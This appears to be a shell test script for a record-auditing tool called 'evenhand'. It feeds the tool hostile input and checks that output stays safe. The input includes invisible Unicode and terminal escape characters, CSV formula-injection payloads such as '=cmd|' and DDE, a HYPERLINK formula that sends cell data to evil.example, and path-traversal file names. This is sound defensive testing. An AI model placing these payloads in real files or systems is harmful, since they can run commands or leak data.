#!/bin/bash
# Names that try to turn a line, hide, move the cursor or be run: what a reader sees is what the data say.
. "$(dirname "$0")/common.sh"

tricks() { # one a line, as printf %b takes it
  cat <<'LIST'
right-to-left override|\xE2\x80\xAEdirevo
left-to-right embedding|\xE2\x80\xAAabc
isolate|\xE2\x81\xA7abc\xE2\x81\xA9
Arabic letter mark|a\xD8\x9Cb
zero-width space|of\xE2\x80\x8Bfice 1
zero-width joiner|of\xE2\x80\x8Dfice
byte order mark|off\xEF\xBB\xBFice
soft hyphen|off\xC2\xADice
line separator|a\xE2\x80\xA8b
tag character|a\xF3\xA0\x81\x81b
interlinear annotation|a\xEF\xBF\xB9b
escape sequence|a\x1B[2J\x1B[31mred
C1 control sequence|a\xC2\x9B31mred
bell and backspace|a\x07b\x08\x08c
delete|a\x7Fb
LIST
}

# No byte that a terminal obeys, no unseen character.
is_tame() { # FILE WHAT
  ! LC_ALL=C grep -qaP '[\x00-\x08\x0B-\x1F\x7F]|\xC2[\x80-\x9F]|\xC2\xAD|\xD8\x9C|\xE2\x80[\x8B-\x8F\xA8-\xAE]|\xE2\x81[\xA0-\xAF]|\xEF\xBB\xBF|\xEF\xBF[\xB9-\xBB]|\xF3\xA0' "$1" ||
    complain "$2: a character that nobody sees or a terminal obeys: $(cat -v "$1" | head -c 1500)"
}

names_stay_in_line() {
  local what name
  while IFS='|' read -r what name; do
    name=$(printf '%b' "$name")
    records "$name" >records.csv
    status_is 0 "$evenhand" audit --as-of 2026-01-31 rules.yaml records.csv -o report.xlsx --json report.json --cells cells.csv
    is_tame stdout "$what, summary"
    is_tame report.json "$what, findings file"
    case $what in # what is not taken out is shown
      *sequence | bell* | delete | *annotation)
        grep -qaP 'U\+|\xEF\xBF\xBD' stdout || complain "$what: not shown in the summary" ;;
    esac
    # The data are kept: the findings file and the cells hold the name, without what nobody sees in it.
    python3 - "$name" <<'CHECK' || complain "$what: the name is lost"
import csv, json, sys, zipfile, re
unseen = "[\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]"
name = re.sub("[\u00a0\u2028\u2029]+", " ", re.sub(unseen, "", sys.argv[1]))
units = [r["unit"] for c in json.load(open("report.json", encoding="utf-8"))["comparisons"] for r in c["results"]]
assert name in units, (name, units)
assert name in [r["unit"] for r in csv.DictReader(open("cells.csv", encoding="utf-8", newline=""))]
for part in zipfile.ZipFile("report.xlsx").namelist():
    text = zipfile.ZipFile("report.xlsx").read(part).decode("utf-8")
    hidden = re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\U000e0000-\U000e0fff]", text)
    assert not hidden, (part, hidden)
CHECK
    status_is 0 "${audit[@]}" rules.yaml --from-cells cells.csv --cells again.csv
    cmp -s cells.csv again.csv || complain "$what: the cells change when they are read again"
    status_is 0 "$evenhand" profile records.csv --as-of 2026-01-31
    is_tame stdout "$what, profile"
    # The same in a header, in messages, in a file's name and in starter rules.
    { printf 'id,office,the %s,result\n' "$name"; records x | tail -n +2; } >headed.csv
    status_is 2 "$evenhand" check rules.yaml headed.csv
    is_tame stderr "$what, message"
    status_is 0 "$evenhand" init headed.csv --force -o starter.yaml
    is_tame stderr "$what, guesses"
    is_tame starter.yaml "$what, starter rules"
    status_is 0 "$evenhand" check starter.yaml headed.csv
    cp records.csv "odd$name.csv"
    status_is 2 "$evenhand" audit rules.yaml "odd$name.csv" -o "odd$name.csv"
    is_tame stderr "$what, file name"
    rm -f "odd$name.csv"
  done < <(tricks)
}

rules_stay_in_line() {
  printf 'evenhand: 1\ntitle: "a\\u202Eb\\x1B[2J"\ncolumns: {case: id, "k\\u200Bind": kind}\nsimilarly_situated: ["k\\u200Bind"]\nmeasures:\n  "y\\u2066\\ees":\n    event: "result = '"'\\\\u202EY'"'"\ncomparisons:\n  - {across: office}\n' >odd.yaml
  timeout 60 "$evenhand" explain odd.yaml >stdout 2>stderr
  is_tame stdout 'explained rules'
  is_tame stderr 'problems of rules'
  printf 'evenhand: 1\n"tit\xE2\x80\xAEle": x\n' >odd.yaml
  status_is 2 "$evenhand" check odd.yaml
  is_tame stderr 'a wrong key'
}

# Nothing out of records or rules becomes a formula, in the workbook or in CSV.
nothing_is_run() {
  local payload
  while IFS= read -r payload; do
    { echo 'id,office,kind,result'; records x "kind" | tail -n +2 | PAYLOAD=$payload awk -F, -v OFS=, '{
        text = ENVIRON["PAYLOAD"]; gsub(/"/, "\"\"", text); field = "\"" text "\""
        print ($1 == 3 ? field : $1), ($2 == "x" ? field : $2), ($1 % 2 ? field : "b"), $4 }'; } >records.csv
    PAYLOAD=$payload python3 - <<'RULES'
import json, os
p = json.dumps(os.environ["PAYLOAD"])
open("run.yaml", "w").write(f"""evenhand: 1
title: {p}
about: {p}
columns: {{case: id}}
similarly_situated: [kind]
measures:
  {p}: {{event: result = 'Y'}}
comparisons:
  - {{across: office, each: kind}}
  - {{across: office}}
""")
RULES
    if ! "$evenhand" check run.yaml >/dev/null 2>&1; then sed -i 's/^  ".*": {event/  yes: {event/' run.yaml; fi
    status_is 0 "${audit[@]}" run.yaml records.csv -o report.xlsx --cells cells.csv --json report.json --scorecards cards
    PAYLOAD=$payload python3 - <<'CHECK' || complain "run as a formula: $payload"
import csv, glob, html, os, re, zipfile
payload = os.environ["PAYLOAD"]
for book in ["report.xlsx"] + glob.glob("cards/*.xlsx"):
    z = zipfile.ZipFile(book)
    for part in z.namelist():
        text = z.read(part).decode("utf-8")
        for formula in re.findall(r"<(?:f|c:f|formula1|formula2|formula|definedName)[ >][^<]*", text):
            formula = re.sub(r"'(?:[^']|'')*'!", "", html.unescape(formula))  # names of sheets
            assert not re.search(r"cmd|HYPERLINK|WEBSERVICE|evil|DDE|SUM\(1\+1", formula), (book, part, formula)
        assert "evil.example" not in text or not part.endswith(".rels"), (book, part)
seen = False
for row in csv.reader(open("cells.csv", encoding="utf-8", newline="")):
    for field in row:
        bare = re.fullmatch(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?", field)
        assert bare or field[:1] not in tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20"), field
        seen = seen or payload in field
assert seen
CHECK
    status_is 0 "${audit[@]}" run.yaml --from-cells cells.csv --cells again.csv
    cmp -s cells.csv again.csv || complain "the cells change when they are read again: $payload"
    rm -rf cards
  done <<'LIST'
=cmd|'/C calc'!A0
+cmd|'/C calc'!A0
-SUM(1+1)*cmd|'/C calc'!A0
@SUM(1+1)*cmd|'/C calc'!A0
=HYPERLINK("http://evil.example/?"&A1,"click")
'=cmd|' /C calc'!A0
''''-cmd
＝cmd|'/C calc'!A0
http://evil.example/
internal:'Method'!A1
-5
LIST
}

# The names of sheets and of scorecards come from data: none leaves its folder or breaks the workbook.
names_make_no_paths() {
  local name
  rm -f ./*.xlsx
  mkdir inside
  while IFS= read -r name; do
    records "$(printf '%b' "$name")" >records.csv
    sed 's/across: office/across: office, each: kind/' rules.yaml >each.yaml
    status_is 0 "${audit[@]}" each.yaml records.csv -o inside/report.xlsx --scorecards inside/cards
    [ "$(find . -path ./inside -prune -o -name '*.xlsx' -print | wc -l)" -eq 0 ] || complain "a workbook outside its folder: $name: $(find . -name '*.xlsx')"
    [ "$(find inside/cards -mindepth 1 -type d | wc -l)" -eq 0 ] || complain "a folder in the scorecards: $name"
    python3 - <<'CHECK' || complain "a sheet's name: $name"
import glob, re, zipfile, html
for book in glob.glob("inside/**/*.xlsx", recursive=True):
    text = zipfile.ZipFile(book).read("xl/workbook.xml").decode("utf-8")
    names = [html.unescape(n) for n in re.findall(r'<sheet name="([^"]*)"', text)]
    assert names and len({n.lower() for n in names}) == len(names), names
    for n in names:
        assert 0 < len(n.encode("utf-16-le")) <= 62 and not re.search(r"[][:*?/\\]", n) and n[0] != "'" != n[-1], n
CHECK
    rm -rf inside/cards
  done <<'LIST'
../../../tmp/evil
/etc/passwd
..
.
\\\\server\\share
a/b:c*d?[e]
CON
-o
'quoted'
History
LIST
  records "$(printf 'x%.0s' {1..5000})" "$(printf 'y%.0s' {1..40000})" >records.csv
  status_is 0 "${audit[@]}" each.yaml records.csv -o inside/report.xlsx --scorecards inside/cards
}

# Bytes that are no text: the record is read as Windows-1252 or left out, and the account says so.
bad_bytes_are_told() {
  local bytes
  for bytes in '\xFF\xFE' '\xC0\xAF' '\xED\xA0\x80' '\xF5\x80\x80\x80' '\xE2\x82' 'caf\xE9' '\x81'; do
    records "$(printf "a$bytes")" >records.csv
    timeout 60 "$evenhand" audit --as-of 2026-01-31 rules.yaml records.csv --json report.json --cells cells.csv >stdout 2>stderr || complain "bytes $bytes: $(cat stderr)"
    python3 - <<'CHECK' || complain "bytes $bytes"
import json
r = json.load(open("report.json", encoding="utf-8"))["records"]
assert r["read"] == 180 == r["audited"] + sum(e["records"] for e in r["excluded"]), r
open("cells.csv", encoding="utf-8").read()
CHECK
  done
  printf 'id,office,kind,result\n1,a\0b,k,Y\n2,a,k,N\n' >nul.csv
  status_is 0 "${audit[@]}" rules.yaml nul.csv --json report.json
  says 'NUL bytes, taken out, in 1 record' report.json
}

names_stay_in_line
rules_stay_in_line
nothing_is_run
names_make_no_paths
bad_bytes_are_told
echo "$tried commands tried"
exit "$failed"
